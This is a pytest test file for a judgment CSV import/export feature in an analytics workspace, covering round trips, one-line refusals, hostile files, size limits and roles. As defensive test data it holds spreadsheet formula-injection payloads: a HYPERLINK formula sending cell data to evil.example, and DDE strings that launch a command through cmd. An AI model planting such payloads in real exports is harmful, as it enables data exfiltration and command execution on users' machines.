"""Judgment import: export → import round trip, one-line refusals with nothing written, hostile files, roles."""

from __future__ import annotations

import io

import numpy as np
import pandas as pd
import pytest

from analytics.cli import main
from analytics.exceptions import InvalidInputError, NotFoundError, PermissionDeniedError
from analytics.judging import add_consensus, add_judgment, export_judgments_csv, import_judgments
from analytics.judging.adjudication import EXPORT_COLUMNS
from analytics.judging.importing import MAX_IMPORT_BYTES
from analytics.team import User, add_user
from analytics.workspace import Workspace
from tests.fixtures.judgments import MODEL_NAMES, insert_suites, register_models

SUITE = "suite-a"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1, "click")'


def person(name: str, role: str) -> User:
    return User(name=name, role=role, disabled=False, locked_until="", created="")


def fresh(tmp_path, name: str) -> Workspace:
    """A workspace with the same models and suite as the exporting one, and no judgments."""
    workspace = Workspace(tmp_path / name)
    register_models(workspace, MODEL_NAMES)
    insert_suites(workspace, [SUITE])
    return workspace


@pytest.fixture
def exported(tmp_path):
    """An export of a workspace with judgments (one replaced, formula notes) and two consensus rows."""
    source = fresh(tmp_path, "source")
    add_judgment(source, annotator="ana", model="model0", label="invariant", suite_id=SUITE, confidence=0.9, note=FORMULA)
    add_judgment(source, annotator="ana", model="model0", label="variant", suite_id=SUITE, note="-3 dB, on reflection\nsecond line")
    add_judgment(source, annotator="ben", model="model0", label="borderline", suite_id=SUITE, note="@SUM(A1)")
    add_judgment(source, annotator="ben", model="model1", label="invariant")  # on no suite
    add_consensus(source, model="model0", suite_id=SUITE, label="variant", reason="+cmd|' /C calc'!A0", adjudicator="lee")
    path = tmp_path / "export.csv"
    path.write_text(export_judgments_csv(source), encoding="utf-8")
    return source, path


def comparable(workspace: Workspace) -> pd.DataFrame:
    table = pd.read_csv(io.StringIO(export_judgments_csv(workspace)), keep_default_na=False)
    return table.drop(columns="id")


def cli(argv: list[str], capsys) -> tuple[int, str, str]:
    code = main(argv)
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def counts(workspace: Workspace) -> tuple[int, int]:
    return tuple(workspace.query_one(f"SELECT COUNT(*) AS n FROM {table}")["n"] for table in ("judgments", "consensus"))


def test_round_trip_into_a_fresh_workspace(exported, tmp_path, capsys):
    source, path = exported
    target = fresh(tmp_path, "target")
    code, out, err = cli(["import-judgments", str(path), "--workspace", str(target.root), "--json"], capsys)
    assert (code, err) == (0, "")
    assert '"judgments": 4' in out and '"consensus": 1' in out and '"skipped": 0' in out
    pd.testing.assert_frame_equal(comparable(target), comparable(source))  # same rows, same counts, formulas neutralised again
    notes = {row["note"] for row in target.query("SELECT note FROM judgments")}
    assert {FORMULA, "@SUM(A1)", "-3 dB, on reflection\nsecond line"} <= notes  # stored as typed, not with the export's quote
    assert target.query_one("SELECT reason FROM consensus")["reason"] == "+cmd|' /C calc'!A0"


def test_importing_twice_adds_nothing_the_second_time(exported, tmp_path):
    _, path = exported
    target = fresh(tmp_path, "target")
    import_judgments(target, path)
    again = import_judgments(target, path)
    assert (again.judgments, again.consensus, again.skipped) == (0, 0, 5) and counts(target) == (4, 1)


HOSTILE_NOTES = ("'=1+1", "''=cmd", "'@x", "'+", "'-", "'\tx", "'plain", "''", "=A1", "'", "-", "@@")


def test_reimporting_the_workspaces_own_export_adds_nothing_whatever_the_notes(tmp_path):
    """Issue 42.5: a note that began with ``'=`` came back without its quote and was added again."""
    workspace = fresh(tmp_path, "own")
    for index, note in enumerate(HOSTILE_NOTES):
        add_judgment(workspace, annotator=f"a{index}", model="model0", label="variant", suite_id=SUITE, note=note)
    add_consensus(workspace, model="model0", suite_id=SUITE, label="variant", reason="'=reason", adjudicator="lee")
    path = tmp_path / "own.csv"
    path.write_text(export_judgments_csv(workspace), encoding="utf-8")
    again = import_judgments(workspace, path)
    assert (again.judgments, again.consensus, again.skipped) == (0, 0, len(HOSTILE_NOTES) + 1)
    target = fresh(tmp_path, "target")  # and into another workspace: every note exactly as typed
    import_judgments(target, path)
    assert sorted(row["note"] for row in target.query("SELECT note FROM judgments")) == sorted(HOSTILE_NOTES)
    cells = pd.read_csv(path, dtype=str, keep_default_na=False)["note"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for cell in cells)  # still safe to open in a spreadsheet


def test_a_row_the_file_holds_twice_is_added_once(exported, tmp_path):
    """Issue 42.4: rows were compared with the stored ones only, never within the file."""
    _, path = exported
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    doubled = tmp_path / "doubled.csv"
    doubled.write_text("".join([*lines, lines[1]]), encoding="utf-8")  # the first data row again at the end
    target = fresh(tmp_path, "target")
    summary = import_judgments(target, doubled)
    assert (summary.judgments, summary.consensus, summary.skipped) == (4, 1, 1) and counts(target) == (4, 1)


def rewrite(path, column: str, row: int, value: str) -> None:
    table = pd.read_csv(path, dtype=str, keep_default_na=False)
    table.loc[row, column] = value
    table.to_csv(path, index=False)


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("model", "nomodel", "row 3: model 'nomodel' is not registered here; register it"),
        ("suite_id", "nosuite", "row 3: suite 'nosuite' is not in this workspace"),
        ("label", "maybe", "row 3: label 'maybe' is not one of invariant, borderline, variant"),
        ("record", "vote", "row 3: record 'vote' is neither"),
        ("confidence", "1.5", "row 3: confidence '1.5' is not a number in [0, 1]"),
        ("confidence", "nan", "row 3: confidence 'nan' is not a number"),
        ("created", "yesterday", "row 3: created 'yesterday' is not an ISO time"),
        ("annotator", " ", "row 3: annotator is empty"),
        ("run_id", "norun", "row 3: run 'norun' is not in this workspace"),
        ("model", "'=cmd|' /C calc'!A0", "row 3: model \"=cmd|' /C calc'!A0\" is not registered"),  # a formula cell, unquoted
    ],
)
def test_a_bad_row_exits_2_with_one_line_and_writes_nothing(exported, tmp_path, capsys, column, value, message):
    _, path = exported
    rewrite(path, column, 1, value)
    target = fresh(tmp_path, "target")
    code, out, err = cli(["import-judgments", str(path), "--workspace", str(target.root)], capsys)
    assert code == 2 and out == "" and err.count("\n") == 1
    assert f"{path}: {message}" in err and err.rstrip().endswith("nothing was imported")
    assert counts(target) == (0, 0)  # the good rows before and after it were not written either


def test_the_first_bad_row_is_named_and_the_others_counted(exported, tmp_path):
    _, path = exported
    rewrite(path, "model", 0, "gone")
    rewrite(path, "label", 3, "unsure")
    with pytest.raises(NotFoundError, match=r"row 2: model 'gone' .* \(1 more bad rows after it\)"):
        import_judgments(fresh(tmp_path, "target"), path)


def test_a_consensus_row_needs_its_suite_and_reason(exported, tmp_path):
    _, path = exported
    rewrite(path, "reason", 4, "  ")
    with pytest.raises(InvalidInputError, match="row 6: a consensus row needs its reason"):
        import_judgments(fresh(tmp_path, "target"), path)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "is empty; it needs the header record,id,"),
        (b"name,label\nmodel0,variant\n", "the header must be the columns export-judgments writes"),
        (",".join(EXPORT_COLUMNS).encode() + b",=cmd()\n", "unexpected ['=cmd()']"),
        (",".join(EXPORT_COLUMNS).encode() + b"\njudgment,1,suite-a\n", "row 2 has 3 cells, the header 14"),
        (",".join(EXPORT_COLUMNS).encode() + b'\n"judgment,1\n', "not valid CSV"),
        (b"\xff\xfe\x00r\x00e\x00c", "is not UTF-8 text"),
        (",".join(EXPORT_COLUMNS).encode() + b"\n" + b"judgment,1," + b"x" * 200_000 + b",model0" + b",x" * 10 + b"\n", "not valid CSV"),
    ],
)
def test_hostile_files_are_refused_in_one_line(tmp_path, capsys, content, message):
    target = fresh(tmp_path, "target")
    path = tmp_path / "hostile.csv"
    path.write_bytes(content)
    code, _, err = cli(["import-judgments", str(path), "--workspace", str(target.root)], capsys)
    assert code == 2 and err.count("\n") == 1 and message in err and counts(target) == (0, 0)


def test_a_cell_past_the_limit_is_refused(exported, tmp_path):
    _, path = exported
    rewrite(path, "note", 0, "x" * 100_001)
    with pytest.raises(InvalidInputError, match="row 2: note is over 100000 characters"):
        import_judgments(fresh(tmp_path, "target"), path)


def test_a_huge_file_is_refused_before_it_is_read(tmp_path):
    path = tmp_path / "huge.csv"
    with open(path, "wb") as handle:
        handle.truncate(MAX_IMPORT_BYTES + 1)  # sparse: no disk used, and never read
    with pytest.raises(InvalidInputError, match="MiB, over the 64 MiB an import reads"):
        import_judgments(fresh(tmp_path, "target"), path)


def test_missing_file(tmp_path, capsys):
    target = fresh(tmp_path, "target")
    code, _, err = cli(["import-judgments", str(tmp_path / "nope.csv"), "--workspace", str(target.root)], capsys)
    assert code == 2 and "is not a file" in err


def test_team_mode_accounts_and_roles(exported, tmp_path):
    _, path = exported
    target = fresh(tmp_path, "target")
    add_user(target, "ana", "annotator", "a long enough password")
    with pytest.raises(NotFoundError, match="row 4: annotator 'ben' is not an account of this workspace"):
        import_judgments(target, path)  # ana's rows pass; ben has no account
    for name, role in [("ben", "analyst"), ("lee", "analyst")]:
        add_user(target, name, role, "a long enough password")
    with pytest.raises(PermissionDeniedError, match="vi \\(viewer\\) may not judge models"):
        import_judgments(target.acting_as(person("vi", "viewer")), path)
    with pytest.raises(PermissionDeniedError, match="ana \\(annotator\\) may not record consensus labels"):
        import_judgments(target.acting_as(person("ana", "annotator")), path)
    with pytest.raises(PermissionDeniedError, match="row 2: ben may not import a judgment by 'ana'.*\\(2 more bad rows after it\\)"):
        import_judgments(target.acting_as(person("ben", "analyst")), path)
    assert counts(target) == (0, 0)
    imported = import_judgments(target, path)  # the CLI acts as nobody: everything allowed
    assert (imported.judgments, imported.consensus) == (4, 1)


def test_a_blind_annotator_imports_only_assigned_models(tmp_path):
    source = fresh(tmp_path, "source")
    add_judgment(source, annotator="ana", model="model2", label="variant", suite_id=SUITE)
    path = tmp_path / "ana.csv"
    path.write_text(export_judgments_csv(source), encoding="utf-8")
    target = fresh(tmp_path, "target")
    add_user(target, "ana", "annotator", "a long enough password")
    with pytest.raises(PermissionDeniedError, match="row 2: ana \\(annotator\\) may judge only the models assigned to them"):
        import_judgments(target.acting_as(person("ana", "annotator")), path)
    assert counts(target) == (0, 0)


# -- every note survives export -> import exactly (a lone \r split its row; \r\n came back as \n) -----------------------
#: Pieces of the random notes: line breaks of every kind, CSV's own characters, the formula prefixes and
#: the quote that neutralises them, NUL (a note may hold one: nothing refuses it), spaces and non-ASCII text.
NOTE_PIECES = (
    "\r", "\n", "\r\n", "\n\r", '"', '""', ",", ";", "\t", "\x00", "'", "=", "+", "-", "@", " ", "  ", "a", "Zz 9", "é", "漢字", "🐟",
    "\u2028", "\u0085", "\x0b", "\x0c", "\ufeff", "\\", "=HYPERLINK(\"x\")",
)  # fmt: skip


def random_notes(count: int, seed: int = 0) -> list[str]:
    """``count`` notes of 0 to 12 random :data:`NOTE_PIECES` (hypothesis is not a dependency: numpy's RNG)."""
    rng = np.random.default_rng(seed)
    notes = ["\r", "\r\n", "x\ry", "a\r\nb", "\r=1", " lead and trail ", "\x00"]  # the reported cases first
    while len(notes) < count:
        notes.append("".join(NOTE_PIECES[i] for i in rng.integers(0, len(NOTE_PIECES), size=rng.integers(0, 13))))
    return notes


def test_every_note_comes_back_exactly_from_the_workspaces_own_export(tmp_path):
    notes = random_notes(300)
    source = fresh(tmp_path, "source")
    for index, note in enumerate(notes):  # an annotator per note: no two rows alike, whatever the notes
        add_judgment(source, annotator=f"a{index}", model=MODEL_NAMES[index % len(MODEL_NAMES)], label="variant", suite_id=SUITE, note=note)
    reasons = [reason for reason in random_notes(40, seed=1) if reason.strip()][:8]
    for reason in reasons:
        add_consensus(source, model="model0", suite_id=SUITE, label="variant", reason=reason, adjudicator="lee")
    stored = source.query("SELECT annotator, note FROM judgments")
    assert {row["annotator"]: row["note"] for row in stored} == {f"a{index}": note for index, note in enumerate(notes)}  # as typed
    path = tmp_path / "own.csv"
    path.write_text(export_judgments_csv(source), encoding="utf-8", newline="")

    again = import_judgments(source, path)  # its own export adds nothing: every row is recognised
    assert (again.judgments, again.consensus, again.skipped) == (0, 0, len(notes) + len(reasons))
    target = fresh(tmp_path, "target")
    summary = import_judgments(target, path)
    assert (summary.judgments, summary.consensus) == (len(notes), len(reasons))
    assert {row["annotator"]: row["note"] for row in target.query("SELECT annotator, note FROM judgments")} == {row["annotator"]: row["note"] for row in stored}
    assert sorted(row["reason"] for row in target.query("SELECT reason FROM consensus")) == sorted(row["reason"] for row in source.query("SELECT reason FROM consensus"))
    cells = pd.read_csv(path, dtype=str, keep_default_na=False)["note"]  # pandas reads it too, and it is still safe in a spreadsheet
    assert len(cells) == len(notes) + len(reasons) and not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
